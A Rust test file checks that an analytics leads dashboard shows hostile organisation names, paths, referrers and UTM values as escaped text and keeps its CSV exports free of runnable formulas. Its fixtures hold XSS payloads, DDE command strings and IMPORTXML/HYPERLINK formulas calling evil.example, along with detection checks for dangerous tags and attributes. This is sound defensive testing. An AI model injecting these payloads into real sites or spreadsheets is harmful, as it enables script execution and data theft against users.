//! Hostile data on the leads dashboard, on both backends. Organisation names (from the IP
//! data), paths, referrers, UTM values and custom event names and properties are chosen by
//! whoever publishes the data or visits the site: every page must show them as text and never
//! run them, the chart must carry nothing of them, and the CSV (the feed's and `leadsment
//! export`'s, one writer) must never hand a spreadsheet a formula.

use leadsment::tracking::export::{Format, export};
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::client::{Client, between};
use crate::leads::{app_with_index, owner_with_site, send};
use crate::on_both_backends;
use crate::support::{Backend, TestApp};

/// Organisation names carrying payloads, quoted as CSV where they need it (the importer reads
/// the file with a CSV reader). Each range is a /27 of TEST-NET-2.
const HOSTILE_INDEX: &str = "198.51.100.0,198.51.100.31,64510,<script>alert(1)</script> Corp\n\
    198.51.100.32,198.51.100.63,64511,\"Evil\"\" onmouseover=\"\"alert(1) Inc\"\n\
    198.51.100.64,198.51.100.95,64512,\"=IMPORTXML(\"\"http://evil.example\"\",\"\"//x\"\") Ltd\"\n\
    198.51.100.96,198.51.100.127,64513,@SUM(1+1) GmbH\n\
    198.51.100.128,198.51.100.159,64514,-2+3 AG\n\
    198.51.100.160,198.51.100.191,64515,+cmd|' /C calc'!A0 Corp\n\
    198.51.100.192,198.51.100.223,64516,\"=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\") Broadband Ltd\"\n";

/// The names as published, as the feed shows them (the legal form dropped; a leading `-` is
/// trimmed by the name normaliser) and their class. "Broadband" is a carrier's word: that one
/// is an ISP, shown only when asked for.
const ORGS: [(&str, &str, &str); 7] = [
    (
        "<script>alert(1)</script> Corp",
        "<script>alert(1)</script>",
        "business",
    ),
    (
        "Evil\" onmouseover=\"alert(1) Inc",
        "Evil\" onmouseover=\"alert(1)",
        "business",
    ),
    (
        "=IMPORTXML(\"http://evil.example\",\"//x\") Ltd",
        "=IMPORTXML(\"http://evil.example\",\"//x\")",
        "business",
    ),
    ("@SUM(1+1) GmbH", "@SUM(1+1)", "business"),
    ("-2+3 AG", "2+3", "business"),
    ("+cmd|' /C calc'!A0 Corp", "+cmd|' /C calc'!A0", "business"),
    (
        "=HYPERLINK(\"http://evil.example\",\"x\") Broadband Ltd",
        "=HYPERLINK(\"http://evil.example\",\"x\") Broadband",
        "isp",
    ),
];

const D: &str = "shop.example";
const SCRIPT_PATH: &str = "/\"><script>alert(2)</script>";
const QUOTE_PATH: &str = "/'onmouseover='alert(3)";
const FORMULA_PATH: &str = "/=1+1";
const JS_REFERRER: &str = "javascript:alert(4)";
const IMG_REFERRER: &str = "https://evil.example/\"><img src=x onerror=alert(5)>";
const CALC: &str = "=cmd|' /C calc'!A0";
const SVG: &str = "<svg onload=alert(6)>";
const EVENT_NAME: &str = "<img src=x onerror=alert(7)>";
const PROP: &str = "\"><script>alert(8)</script>";

/// The address of visitor `n` of organisation `org` (never 127.0.0.1, the trusted proxy).
fn ip(org: usize, n: usize) -> String {
    format!("198.51.100.{}", org * 32 + 1 + n)
}

fn enc(s: &str) -> String {
    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

/// A page URL on the site with these UTM parameters.
fn page_url(path: &str, utm: &[(&str, &str)]) -> String {
    let query: Vec<String> = utm
        .iter()
        .map(|(k, v)| format!("utm_{k}={}", enc(v)))
        .collect();
    if query.is_empty() {
        format!("https://{D}{path}")
    } else {
        format!("https://{D}{path}?{}", query.join("&"))
    }
}

fn pageview(path: &str, utm: &[(&str, &str)], referrer: &str) -> Value {
    json!({"name": "pageview", "url": page_url(path, utm), "domain": D, "referrer": referrer})
}

fn custom(path: &str) -> Value {
    json!({"name": EVENT_NAME, "url": page_url(path, &[]), "domain": D,
           "props": {"k": PROP, "=x": "@y"}})
}

fn engagement(path: &str, ms: u64) -> Value {
    json!({"name": "engagement", "url": page_url(path, &[]), "domain": D, "engaged_ms": ms})
}

/// A path as the server stores it (the URL parser percent-encodes `"`, `<` and `>`).
fn stored(path: &str) -> String {
    leadsment::tracking::page_path(&url::Url::parse(&page_url(path, &[])).unwrap())
}

/// `s` as askama writes it into HTML.
fn esc(s: &str) -> String {
    let mut out = String::new();
    for c in s.chars() {
        match c {
            '&' => out.push_str("&#38;"),
            '<' => out.push_str("&#60;"),
            '>' => out.push_str("&#62;"),
            '"' => out.push_str("&#34;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// An attribute value as a browser reads it (only the entities askama writes).
fn unesc(s: &str) -> String {
    s.replace("&#34;", "\"")
        .replace("&#39;", "'")
        .replace("&#60;", "<")
        .replace("&#62;", ">")
        .replace("&#38;", "&")
}

struct Tag {
    name: String,
    attrs: Vec<(String, String)>,
    /// Byte offset of the `<`.
    at: usize,
}

/// Every start tag of an HTML body with its attributes, tokenised as a browser does: quoted
/// values run to the matching quote, comments are skipped, script and style are raw text.
fn tags(body: &str) -> Vec<Tag> {
    let b = body.as_bytes();
    let len = b.len();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(off) = body[i..].find('<') {
        let at = i + off;
        i = at + 1;
        if body[i..].starts_with("!--") {
            i = body[i..].find("-->").map_or(len, |e| i + e + 3);
            continue;
        }
        if body[i..].starts_with('!') || body[i..].starts_with('?') {
            i = body[i..].find('>').map_or(len, |e| i + e + 1);
            continue;
        }
        let closing = body[i..].starts_with('/');
        if closing {
            i += 1;
        }
        let start = i;
        while i < len && b[i].is_ascii_alphanumeric() {
            i += 1;
        }
        if i == start {
            // "<" not starting a tag is text.
            continue;
        }
        let name = body[start..i].to_ascii_lowercase();
        let mut attrs = Vec::new();
        loop {
            while i < len && (b[i].is_ascii_whitespace() || b[i] == b'/') {
                i += 1;
            }
            if i >= len || b[i] == b'>' {
                i += 1;
                break;
            }
            let s = i;
            while i < len && !b[i].is_ascii_whitespace() && !matches!(b[i], b'=' | b'>' | b'/') {
                i += 1;
            }
            if i == s {
                i += 1;
                continue;
            }
            let attr = body[s..i].to_ascii_lowercase();
            while i < len && b[i].is_ascii_whitespace() {
                i += 1;
            }
            let mut value = String::new();
            if i < len && b[i] == b'=' {
                i += 1;
                while i < len && b[i].is_ascii_whitespace() {
                    i += 1;
                }
                if i < len && (b[i] == b'"' || b[i] == b'\'') {
                    let q = b[i] as char;
                    i += 1;
                    let e = body[i..].find(q).map_or(len, |e| i + e);
                    value = body[i..e].to_owned();
                    i = (e + 1).min(len);
                } else {
                    let s = i;
                    while i < len && !b[i].is_ascii_whitespace() && b[i] != b'>' {
                        i += 1;
                    }
                    value = body[s..i].to_owned();
                }
            }
            attrs.push((attr, value));
        }
        if !closing {
            if name == "script" || name == "style" {
                let end = format!("</{name}");
                i = body[i.min(len)..]
                    .to_ascii_lowercase()
                    .find(&end)
                    .map_or(len, |e| i + e);
            }
            out.push(Tag { name, attrs, at });
        }
        i = i.min(len);
    }
    out
}

/// Nothing of the data runs: no payload as markup, no event-handler attribute, no script
/// URL, whatever the page.
fn assert_inert(what: &str, body: &str) {
    for raw in [
        "<script>alert",
        "<img src=x",
        "<svg onload",
        "onmouseover=\"alert",
        "onmouseover='alert",
    ] {
        assert!(
            !body.contains(raw),
            "{what}: `{raw}` is markup, not text: {}",
            excerpt(body, raw)
        );
    }
    let lower = body.to_ascii_lowercase();
    for raw in [
        "href=\"javascript:",
        "href='javascript:",
        "href=javascript:",
        "src=\"javascript:",
    ] {
        assert!(
            !lower.contains(raw),
            "{what}: `{raw}` in {}",
            excerpt(&lower, raw)
        );
    }
    for tag in tags(body) {
        let here = || excerpt(body, &body[tag.at..(tag.at + 60).min(body.len())]);
        assert!(
            !matches!(
                tag.name.as_str(),
                "script" | "iframe" | "object" | "embed" | "frame" | "base"
            ),
            "{what}: a <{}> tag: {}",
            tag.name,
            here()
        );
        for (attr, value) in &tag.attrs {
            assert!(
                !attr.starts_with("on") && attr != "srcdoc",
                "{what}: attribute {attr} on <{}>: {}",
                tag.name,
                here()
            );
            if matches!(
                attr.as_str(),
                "href" | "src" | "action" | "formaction" | "xlink:href"
            ) {
                let url: String = unesc(value)
                    .chars()
                    .filter(|c| !c.is_whitespace() && !c.is_control())
                    .collect::<String>()
                    .to_ascii_lowercase();
                assert!(
                    url.starts_with('/') && !url.starts_with("//")
                        || url.starts_with('#')
                        || url.starts_with('?')
                        || url.starts_with("https://")
                        || url.starts_with("http://"),
                    "{what}: {attr}={value:?} on <{}>: {}",
                    tag.name,
                    here()
                );
            }
            if tag.name == "img" && attr == "src" {
                assert!(
                    value.starts_with("/assets/"),
                    "{what}: <img src={value:?}>: {}",
                    here()
                );
            }
        }
    }
    // The document's title is text.
    let title =
        between(body, "<title>", "</title>").unwrap_or_else(|| panic!("{what}: no <title>"));
    assert!(
        !title.contains('<') && !title.contains('>'),
        "{what}: title {title:?}"
    );
}

fn excerpt(body: &str, needle: &str) -> String {
    match body.find(needle) {
        Some(at) => {
            let mut from = at.saturating_sub(200);
            while !body.is_char_boundary(from) {
                from -= 1;
            }
            let mut to = (at + needle.len() + 200).min(body.len());
            while !body.is_char_boundary(to) {
                to += 1;
            }
            format!("…{}…", &body[from..to])
        }
        None => String::new(),
    }
}

/// The chart's `<title>`s and axis labels: dates, hours and counts, nothing else.
fn assert_chart_is_numbers(what: &str, body: &str) {
    let start = body
        .find("<svg class=\"chart\"")
        .unwrap_or_else(|| panic!("{what}: no chart"));
    let end = start + body[start..].find("</svg>").unwrap();
    let svg = &body[start..end];
    let mut titles = 0;
    let mut rest = svg;
    while let Some(at) = rest.find("<title") {
        let open = at + rest[at..].find('>').unwrap() + 1;
        let tag = &rest[at..open];
        let close = open + rest[open..].find("</title>").unwrap();
        let text = &rest[open..close];
        rest = &rest[close..];
        titles += 1;
        if tag == "<title id=\"chart-title\">" {
            // The chart's own title, ours.
            assert!(
                [
                    "Visitors and visits, last 30 days",
                    "Visitors and visits, last 7 days"
                ]
                .contains(&text),
                "{what}: {text:?}"
            );
            continue;
        }
        assert_eq!(tag, "<title>", "{what}");
        let (label, counts) = text
            .split_once(": ")
            .unwrap_or_else(|| panic!("{what}: bar title {text:?}"));
        assert!(
            !label.is_empty()
                && label
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == ' ' || c == ':'),
            "{what}: bar label {label:?}"
        );
        let words: Vec<&str> = counts.split(' ').collect();
        assert_eq!(words.len(), 6, "{what}: {text:?}");
        for (n, word) in words.iter().enumerate() {
            if n % 2 == 0 {
                assert!(
                    word.chars().all(|c| c.is_ascii_digit() || c == ','),
                    "{what}: {text:?}"
                );
            }
        }
        assert_eq!(
            [words[1], words[3], words[5]],
            ["visitors,", "visits,", "pageviews"],
            "{what}: {text:?}"
        );
    }
    assert!(titles > 1, "{what}: the chart has no bar titles: {svg}");
    let mut rest = svg;
    let mut labels = 0;
    while let Some(at) = rest.find("<text") {
        let open = at + rest[at..].find('>').unwrap() + 1;
        let close = open + rest[open..].find("</text>").unwrap();
        let text = &rest[open..close];
        assert!(
            text.chars()
                .all(|c| c.is_ascii_alphanumeric() || c == ' ' || c == ':' || c == ','),
            "{what}: axis label {text:?}"
        );
        labels += 1;
        rest = &rest[close..];
    }
    assert!(labels > 0, "{what}: no axis labels");
}

async fn page(owner: &Client, path: &str, status: StatusCode) -> String {
    let res = owner.get(path).await;
    assert_eq!(res.status, status, "{path}: {}", res.body);
    assert_inert(path, &res.body);
    res.body
}

fn assert_shows(what: &str, body: &str, texts: &[&str]) {
    for text in texts {
        let shown = esc(text);
        assert!(
            body.contains(&shown),
            "{what} does not show {text:?} as {shown:?}: {body}"
        );
    }
}

/// The href values of `body` that start with `prefix`, as a browser would follow them.
fn links(body: &str, prefix: &str) -> Vec<String> {
    let mut out: Vec<String> = tags(body)
        .into_iter()
        .filter(|t| t.name == "a")
        .flat_map(|t| t.attrs)
        .filter(|(a, _)| a == "href")
        .map(|(_, v)| unesc(&v))
        .filter(|v| v.starts_with(prefix))
        .collect();
    out.sort();
    out.dedup();
    out
}

/// Every cell a spreadsheet would run is text behind a `'`: no cell starts with `=`, `+`, `@`,
/// a tab or a carriage return, and one starting with `-` is a number.
fn assert_formula_safe(what: &str, rows: &[csv::StringRecord]) {
    for row in rows {
        for cell in row {
            match cell.chars().next() {
                Some('=' | '+' | '@' | '\t' | '\r') => {
                    panic!("{what}: cell {cell:?} would run in a spreadsheet: {row:?}")
                }
                Some('-') => assert!(
                    cell.parse::<f64>().is_ok(),
                    "{what}: cell {cell:?} starts with - and is no number: {row:?}"
                ),
                _ => {}
            }
        }
    }
}

fn read_csv(text: &str) -> (csv::StringRecord, Vec<csv::StringRecord>) {
    let mut reader = csv::ReaderBuilder::new()
        .flexible(true)
        .from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let rows = reader.records().map(|r| r.unwrap()).collect();
    (header, rows)
}

fn column(header: &csv::StringRecord, name: &str) -> usize {
    header
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name} in {header:?}"))
}

fn cells(rows: &[csv::StringRecord], col: usize) -> Vec<&str> {
    rows.iter().filter_map(|r| r.get(col)).collect()
}

on_both_backends!(hostile_data_is_shown_as_text_and_never_run);

async fn hostile_data_is_shown_as_text_and_never_run(backend: Backend) {
    let app = app_with_index(backend, HOSTILE_INDEX).await;
    let (ws, site, owner) = owner_with_site(&app, "owner@acme.example", D).await;
    let base = format!("/w/{}/sites/{}", ws.0, site.id.0);
    visit(&app).await;

    // The overview, over 30 and 7 days: the chart is dates and numbers, the lists show the
    // paths and sources as text.
    let mut overview_links = Vec::new();
    for query in ["", "?period=7d"] {
        let what = format!("{base}{query}");
        let body = page(&owner, &what, StatusCode::OK).await;
        assert_chart_is_numbers(&what, &body);
        assert_shows(
            &what,
            &body,
            &[
                &stored(SCRIPT_PATH),
                &stored(QUOTE_PATH),
                FORMULA_PATH,
                CALC,
                SVG,
                JS_REFERRER,
                "evil.example",
                "@evil",
            ],
        );
        overview_links.extend(links(&body, &format!("{base}/companies?")));
    }
    // The URL parser percent-encodes the script path's quote and angle brackets, so that one
    // is shown encoded; the quote path keeps its quotes.
    assert_eq!(stored(QUOTE_PATH), QUOTE_PATH);
    assert!(
        stored(SCRIPT_PATH).contains("%3Cscript%3E"),
        "{}",
        stored(SCRIPT_PATH)
    );
    assert!(overview_links.len() >= 8, "{overview_links:?}");
    // Every link the overview makes from a hostile path or source opens a clean feed.
    overview_links.sort();
    overview_links.dedup();
    for link in &overview_links {
        page(&owner, link, StatusCode::OK).await;
    }

    // The feed, by default (the businesses) and with every class (the ISP too).
    let names: Vec<&str> = ORGS.iter().map(|o| o.1).collect();
    let businesses: Vec<&str> = ORGS
        .iter()
        .filter(|o| o.2 == "business")
        .map(|o| o.1)
        .collect();
    let feed = page(&owner, &format!("{base}/companies"), StatusCode::OK).await;
    assert_shows("the feed", &feed, &businesses);
    assert!(
        !feed.contains(&esc(ORGS[6].1)),
        "the ISP is hidden by default: {feed}"
    );
    assert_shows(
        "the feed",
        &feed,
        &[
            &stored(SCRIPT_PATH),
            &stored(QUOTE_PATH),
            FORMULA_PATH,
            CALC,
            "@SUM(1+1)",
            "-2+3",
            "+cmd|' /C calc'!A0",
        ],
    );
    let every_class = "class=business&class=isp&class=hosting&class=unknown&class=mobile&class=education&class=government";
    let all = page(
        &owner,
        &format!("{base}/companies?{every_class}"),
        StatusCode::OK,
    )
    .await;
    assert_shows("the feed of every class", &all, &names);
    let isp = page(
        &owner,
        &format!("{base}/companies?class=isp"),
        StatusCode::OK,
    )
    .await;
    assert_shows("the ISPs", &isp, &[ORGS[6].1]);
    for name in &businesses {
        assert!(
            !isp.contains(&format!(">{}</a>", esc(name))),
            "the ISPs list {name:?}: {isp}"
        );
    }
    // A hostile page pattern and search are echoed as text and still filter.
    let pattern = format!("{SCRIPT_PATH}*");
    let body = page(
        &owner,
        &format!("{base}/companies?page={}", enc(&pattern)),
        StatusCode::OK,
    )
    .await;
    assert_shows("the page filter", &body, &[&pattern]);
    let pattern = "/'onmouseover='*";
    let body = page(
        &owner,
        &format!("{base}/companies?page={}", enc(pattern)),
        StatusCode::OK,
    )
    .await;
    assert_shows("the page filter", &body, &[pattern, ORGS[0].1]);
    let q = "<script>";
    let body = page(
        &owner,
        &format!("{base}/companies?q={}&{every_class}", enc(q)),
        StatusCode::OK,
    )
    .await;
    assert_shows("the search", &body, &[q, ORGS[0].1]);
    assert!(
        !body.contains(&esc(ORGS[3].1)),
        "the search matches one name: {body}"
    );
    // A hostile filter value named in an error.
    let sort = "\"><script>alert(12)</script>";
    let body = page(
        &owner,
        &format!("{base}/companies?sort={}", enc(sort)),
        StatusCode::BAD_REQUEST,
    )
    .await;
    assert!(body.contains("one of score"), "{body}");

    // Every company page the feed links to: the name in the heading and the title, the
    // published name, the visits with their campaigns, events and properties, all as text.
    let pages = links(&all, &format!("{base}/companies/"));
    assert_eq!(pages.len(), ORGS.len(), "{pages:?}");
    let mut seen = Vec::new();
    for link in &pages {
        let body = page(&owner, link, StatusCode::OK).await;
        let (org, name, _) = ORGS
            .iter()
            .find(|(org, _, _)| body.contains(&esc(org)))
            .unwrap_or_else(|| panic!("{link} names none of the organisations: {body}"));
        let title = between(&body, "<title>", "</title>").unwrap();
        assert!(
            title.starts_with(&format!("{} · ", esc(name))),
            "{link}: title {title:?}"
        );
        assert!(
            body.contains(&format!("<h1>{}</h1>", esc(name))),
            "{link}: {body}"
        );
        assert_shows(link, &body, &[org]);
        seen.push(*org);
        if *org == ORGS[3].0 {
            assert_shows(
                link,
                &body,
                &["evil.example (referral)", &stored(SCRIPT_PATH)],
            );
        }
        if *org == ORGS[0].0 {
            assert_shows(
                link,
                &body,
                &[
                    &stored(SCRIPT_PATH),
                    &stored(QUOTE_PATH),
                    FORMULA_PATH,
                    EVENT_NAME,
                    &format!("k: {PROP}"),
                    "=x: @y",
                    &format!("{CALC} / -2+3 / {SVG}"),
                    &format!("{SVG} / {CALC}"),
                    "1m 05s on page",
                ],
            );
        }
    }
    seen.sort();
    let mut all_orgs: Vec<&str> = ORGS.iter().map(|o| o.0).collect();
    all_orgs.sort();
    assert_eq!(seen, all_orgs);

    // The feed's CSV: by default and with every class.
    for (query, classes) in [
        ("", &["business"][..]),
        (&format!("?{every_class}"), &["business", "isp"][..]),
    ] {
        let what = format!("{base}/companies.csv{query}");
        let res = owner.get(&what).await;
        assert_eq!(res.status, StatusCode::OK, "{what}: {}", res.body);
        let (header, rows) = read_csv(&res.body);
        assert_formula_safe(&what, &rows);
        // The rows, then the credit line.
        let (credit, data) = rows.split_last().expect("a credit line");
        assert!(
            credit[0].starts_with("Organisation data: ") && credit[0].contains("CC BY 4.0"),
            "{what}: {credit:?}"
        );
        for row in data {
            assert_eq!(row.len(), header.len(), "{what}: {row:?}");
        }
        for name in [
            "score",
            "visits",
            "visitors",
            "pageviews",
            "engaged_seconds",
            "company_id",
        ] {
            for cell in cells(data, column(&header, name)) {
                assert!(
                    cell.parse::<i64>().is_ok(),
                    "{what}: {name} {cell:?} is no plain number"
                );
            }
        }
        let company = column(&header, "company");
        let class = column(&header, "class");
        for (_, name, class_of) in ORGS {
            let cell = if name.starts_with(['=', '+', '-', '@']) {
                format!("'{name}")
            } else {
                name.to_owned()
            };
            let row = data.iter().find(|r| r[company] == cell);
            if !classes.contains(&class_of) {
                assert!(
                    row.is_none(),
                    "{what}: {cell:?} is {class_of}: {}",
                    res.body
                );
                continue;
            }
            let row = row.unwrap_or_else(|| panic!("{what}: no company {cell:?}: {}", res.body));
            assert_eq!(&row[class], class_of, "{what}: {cell:?}");
        }
        let sources = cells(data, column(&header, "first_source"));
        for source in [
            "'=cmd|' /C calc'!A0",
            "'@evil",
            "'=1+1",
            "javascript:alert(4)",
            "evil.example",
        ] {
            assert!(
                sources.contains(&source),
                "{what}: no first_source {source:?} in {sources:?}"
            );
        }
        let campaigns = cells(data, column(&header, "first_campaign"));
        for campaign in ["'@SUM(1+1)", "'-2+3", "'+cmd|' /C calc'!A0", SVG] {
            assert!(
                campaigns.contains(&campaign),
                "{what}: no first_campaign {campaign:?} in {campaigns:?}"
            );
        }
        assert!(
            res.body.contains(&stored(QUOTE_PATH)),
            "{what}: {}",
            res.body
        );
    }

    // `leadsment export` writes the same events through the same writer.
    let store = app.db.store().await;
    let mut out = Vec::new();
    let written = export(&store, &site, 0, i64::MAX, Format::Csv, &mut out)
        .await
        .unwrap();
    store.close().await;
    let text = String::from_utf8(out).unwrap();
    let (header, rows) = read_csv(&text);
    assert_eq!(rows.len() as u64, written);
    assert_formula_safe("the export", &rows);
    for name in ["id", "visit_id", "engaged_ms"] {
        for cell in cells(&rows, column(&header, name)) {
            assert!(
                cell.is_empty() || cell.parse::<i64>().is_ok(),
                "export: {name} {cell:?}"
            );
        }
    }
    for (name, values) in [
        ("name", vec![EVENT_NAME, "engagement", "pageview"]),
        ("path", vec![&stored(SCRIPT_PATH), QUOTE_PATH, FORMULA_PATH]),
        (
            "props",
            vec![r#"{"=x":"@y","k":"\"><script>alert(8)</script>"}"#],
        ),
        (
            "company",
            vec![
                "<script>alert(1)</script>",
                "'=HYPERLINK(\"http://evil.example\",\"x\") Broadband",
                "'=IMPORTXML(\"http://evil.example\",\"//x\")",
                "'@SUM(1+1)",
                "'+cmd|' /C calc'!A0",
            ],
        ),
        (
            "utm_source",
            vec!["'=cmd|' /C calc'!A0", SVG, "'@evil", "'=1+1", JS_REFERRER],
        ),
        ("utm_medium", vec!["'-2+3"]),
        (
            "utm_campaign",
            vec![
                SVG,
                "'=cmd|' /C calc'!A0",
                "'@SUM(1+1)",
                "'-2+3",
                "'+cmd|' /C calc'!A0",
                "'=HYPERLINK(\"http://evil.example\")",
            ],
        ),
        ("source", vec!["'=cmd|' /C calc'!A0", "evil.example"]),
    ] {
        let col = cells(&rows, column(&header, name));
        for value in values {
            assert!(
                col.contains(&value),
                "export: no {name} {value:?} in {col:?}"
            );
        }
    }
    app.shutdown().await.unwrap();
}

/// The visits: every hostile value through the events API, from addresses in the index.
async fn visit(app: &TestApp) {
    // The script organisation: two people, every payload.
    let a = ip(0, 0);
    send(
        app,
        &a,
        pageview(
            SCRIPT_PATH,
            &[("source", CALC), ("medium", "-2+3"), ("campaign", SVG)],
            JS_REFERRER,
        ),
    )
    .await;
    send(app, &a, custom(SCRIPT_PATH)).await;
    send(app, &a, pageview(QUOTE_PATH, &[], "")).await;
    send(app, &a, engagement(QUOTE_PATH, 65_000)).await;
    send(app, &a, pageview(FORMULA_PATH, &[], "")).await;
    let b = ip(0, 1);
    send(
        app,
        &b,
        pageview(
            FORMULA_PATH,
            &[("source", SVG), ("campaign", CALC)],
            IMG_REFERRER,
        ),
    )
    .await;
    send(app, &b, pageview(QUOTE_PATH, &[], IMG_REFERRER)).await;
    // The others: one visit each.
    send(
        app,
        &ip(1, 0),
        pageview(
            FORMULA_PATH,
            &[("source", JS_REFERRER), ("campaign", "@SUM(1+1)")],
            "",
        ),
    )
    .await;
    send(
        app,
        &ip(2, 0),
        pageview(QUOTE_PATH, &[("source", "@evil"), ("campaign", "-2+3")], ""),
    )
    .await;
    send(app, &ip(2, 0), custom(QUOTE_PATH)).await;
    send(app, &ip(3, 0), pageview(SCRIPT_PATH, &[], IMG_REFERRER)).await;
    send(app, &ip(4, 0), pageview(QUOTE_PATH, &[], JS_REFERRER)).await;
    send(
        app,
        &ip(6, 0),
        pageview(
            SCRIPT_PATH,
            &[("campaign", "=HYPERLINK(\"http://evil.example\")")],
            "",
        ),
    )
    .await;
    send(
        app,
        &ip(5, 0),
        pageview(
            FORMULA_PATH,
            &[("source", "=1+1"), ("campaign", "+cmd|' /C calc'!A0")],
            "",
        ),
    )
    .await;
}

/// The checks above are only as good as their reading of HTML: each of these bodies must fail.
#[test]
fn the_checks_catch_markup_made_of_data() {
    let page =
        |main: &str| format!("<html><head><title>t</title></head><body>{main}</body></html>");
    assert_inert(
        "clean",
        &page(
            "<a href=\"/w/1?a=1&#38;b=&#60;x&#62;\" title=\"&#34; onclick=&#34;x\">&#60;script&#62;</a>",
        ),
    );
    for bad in [
        "<p><script>alert(1)</script></p>",
        "<span title=\"Evil\" onmouseover=\"alert(1)\">x</span>",
        "<span title='x' onfocus='x'>x</span>",
        "<a href=\" JavaScript:alert(4)\">x</a>",
        "<a href=\"&#106;avascript:x\">x</a>",
        "<td><img src=x onerror=alert(7)></td>",
        "<svg onload=alert(6)>",
        "<iframe src=\"/x\"></iframe>",
    ] {
        let body = page(bad);
        let caught = std::panic::catch_unwind(|| assert_inert("synthetic", &body)).is_err();
        assert!(caught, "not caught: {bad}");
    }
    let title = page("").replace("<title>t</title>", "<title><script>x</script></title>");
    assert!(std::panic::catch_unwind(|| assert_inert("title", &title)).is_err());
}
